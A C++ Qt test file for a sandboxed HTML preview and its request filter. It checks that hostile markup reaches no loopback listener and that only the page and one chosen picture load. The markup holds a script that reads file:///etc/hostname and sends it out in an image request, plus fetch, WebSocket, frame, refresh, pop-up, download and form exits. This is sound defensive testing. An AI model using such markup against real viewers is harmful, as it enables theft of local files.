#include "PreviewTesting.h"
#include "forms/preview/BackgroundLines.h"
#include "forms/preview/PreviewRequestFilter.h"
#include "forms/preview/Tinta2.h"

#include <QApplication>
#include <QHostAddress>
#include <QImage>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTest>
#include <QWebEngineDownloadRequest>
#include <QWebEngineProfile>
#include <QWebEngineView>

#include <gtest/gtest.h>

using namespace Qt::StringLiterals;

namespace {

// A listener on the loopback that notes every connection made to it and what it was sent.
class Listener
{
public:
    Listener()
    {
        EXPECT_TRUE(m_server.listen(QHostAddress::LocalHost));
        QObject::connect(&m_server, &QTcpServer::newConnection, [this] {
            while (QTcpSocket *socket = m_server.nextPendingConnection()) {
                ++m_connections;
                QObject::connect(socket, &QTcpSocket::readyRead,
                                 [this, socket] { m_received += socket->readAll(); });
            }
        });
    }

    QString url(const QString &path) const
    {
        return u"http://127.0.0.1:%1/%2"_s.arg(m_server.serverPort()).arg(path);
    }

    int connections() const { return m_connections; }
    const QByteArray &received() const { return m_received; }

private:
    QTcpServer m_server;
    int m_connections = 0;
    QByteArray m_received;
};

// Markup that tries every way out of the page: scripts that read a local file and send it,
// resources, a frame and a refresh that call the listener, links, a pop-up, a download and a
// form that a click would follow, and a picture from elsewhere on the disk.
QString hostileMarkup(const Listener &listener, const QString &localPicture)
{
    const QString ws = listener.url(u"socket"_s).replace(u"http:"_s, u"ws:"_s);
    return uR"(<script>
var request = new XMLHttpRequest();
request.open("GET", "file:///etc/hostname", false);
request.send();
new Image().src = "%1?" + encodeURIComponent(request.responseText);
fetch("%2");
new WebSocket("%3");
document.title = "script ran";
</script>
<img src="%4"><link rel="stylesheet" href="%5"><iframe src="%6"></iframe>
<meta http-equiv="refresh" content="0; url=%7">
<a href="%8" style="position:absolute;left:40px;top:40px;width:60px;height:30px;display:block">a</a>
<a href="%9" target="_blank" style="position:absolute;left:110px;top:40px;width:60px;height:30px;display:block">b</a>
<a href="%10" download style="position:absolute;left:180px;top:40px;width:60px;height:30px;display:block">c</a>
<form action="%11"><input type="submit" style="position:absolute;left:40px;top:100px;width:60px;height:30px"></form>
<img src="%12" style="position:absolute;left:150px;top:100px;width:40px;height:40px">)"_s
        .arg(listener.url(u"xhr"_s), listener.url(u"fetch"_s), ws, listener.url(u"image"_s),
             listener.url(u"style"_s), listener.url(u"frame"_s), listener.url(u"refresh"_s),
             listener.url(u"link"_s), listener.url(u"popup"_s))
        .arg(listener.url(u"download"_s), listener.url(u"form"_s),
             QUrl::fromLocalFile(localPicture).toString());
}

// Where each link, button and the local picture stand on the page.
const QPoint Targets[] = {{70, 55}, {140, 55}, {210, 55}, {70, 115}};
const QPoint LocalPicture(170, 120);

QString savePicture(const QString &path, QColor colour)
{
    QImage picture(16, 16, QImage::Format_RGB32);
    picture.fill(colour);
    EXPECT_TRUE(picture.save(path, "PNG"));
    return path;
}

TEST(PreviewRequestFilter, LetsThroughOnlyThePageAndTheChosenPicture)
{
    const QUrl page =
        QUrl::fromLocalFile(u"/run/user/1000/Tintra-preview-1-a/DUVxORxQYzVIEWER.HTM"_s);
    PreviewRequestFilter filter(page);
    const QString picture = u"/home/me/my \"best\" #1 50% & caf\u00E9's.png"_s;
    EXPECT_TRUE(filter.allows(page));
    EXPECT_FALSE(filter.allows(QUrl(PictureUrl(picture))));
    filter.allowPicture(picture);
    const std::pair<QUrl, bool> cases[] = {{page, true},
                                           {QUrl(PictureUrl(picture)), true},
                                           {QUrl::fromLocalFile(picture), true},
                                           {QUrl(PictureUrl(picture) + u"?leak=1"_s), false},
                                           {QUrl(u"file:///etc/hostname"_s), false},
                                           {QUrl(u"file://elsewhere/home/me/picture.png"_s), false},
                                           {QUrl(u"http://127.0.0.1:8080/"_s), false},
                                           {QUrl(u"ws://127.0.0.1:8080/"_s), false},
                                           {QUrl(u"https://example.com/picture.png"_s), false},
                                           {QUrl(u"data:image/png;base64,AAAA"_s), false}};
    for (const auto &[url, allowed] : cases)
        EXPECT_EQ(filter.allows(url), allowed) << url.toString().toStdString();
    // A later choice takes the place of the earlier one.
    filter.allowPicture(u"/home/me/other.png"_s);
    EXPECT_FALSE(filter.allows(QUrl::fromLocalFile(picture)));
}

using HostileMarkup = PreviewFixture;

TEST_F(HostileMarkup, ReachesNothingAndThePictureBackgroundStillShows)
{
    Listener listener;
    QTemporaryDir elsewhere;
    const QString red = savePicture(elsewhere.filePath(u"private.png"_s), Qt::red);
    Tinta2 *preview = viewAndLoad(hostileMarkup(listener, red));
    ASSERT_NE(preview, nullptr);
    const qsizetype windows = QApplication::topLevelWidgets().size();
    QWebEngineView &page = *preview->browser();
    for (const QPoint target : Targets)
        QTest::mouseClick(page.focusProxy(), Qt::LeftButton, {}, target);
    QTest::qWait(500);

    dialogs.answerOpenFile(savePicture(folder.filePath(u"back.png"_s), Qt::blue));
    click(*preview, "Command2");
    ASSERT_TRUE(WaitForLoad(page));
    EXPECT_EQ(SettledPixel(page, {3, 3}, Qt::blue), QColor(Qt::blue));
    EXPECT_NE(page.grab().toImage().pixelColor(LocalPicture), QColor(Qt::red));

    // Time for anything under way to arrive.
    QTest::qWait(1000);
    EXPECT_EQ(listener.connections(), 0) << listener.received().toStdString();
    EXPECT_NE(page.title(), u"script ran"_s);
    EXPECT_EQ(page.url(), file.url());
    EXPECT_EQ(QApplication::topLevelWidgets().size(), windows);
}

TEST_F(HostileMarkup, NothingIsDownloaded)
{
    Tinta2 *preview = viewAndLoad(u"<B>x</B>"_s);
    ASSERT_NE(preview, nullptr);
    QWebEnginePage &page = *preview->browser()->page();
    std::optional<QWebEngineDownloadRequest::DownloadState> state;
    QObject::connect(
        page.profile(), &QWebEngineProfile::downloadRequested,
        [&state](const QWebEngineDownloadRequest *download) { state = download->state(); });
    page.download(file.url());
    ASSERT_TRUE(QTest::qWaitFor([&] { return state.has_value(); }, 5000));
    EXPECT_EQ(state, QWebEngineDownloadRequest::DownloadCancelled);
}

} // namespace
